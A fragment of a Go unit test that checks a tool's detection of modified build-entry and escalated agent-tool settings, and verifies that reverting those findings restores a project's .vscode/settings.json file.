	cats := map[Category]string{}
	for _, f := range found {
		cats[f.Category] = string(f.Kind) + " " + f.Action
	}
	if cats[BuildEntry] != string(KindModified)+" "+ActionWarn || cats[AgentTools] != string(KindEscalation)+" "+ActionRevert {
		t.Fatalf("findings %+v", found)
	}
	if err := Revert(dir, before, found); err != nil {
		t.Fatal(err)
	}
	for _, f := range found {
		if f.Outcome != "reverted" {
			t.Errorf("%s finding: outcome %q", f.Category, f.Outcome)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(dir, ".vscode/settings.json")); string(b) != `{"editor.tabSize": 2}` {
		t.Errorf("not restored: %s", b)
	}
}
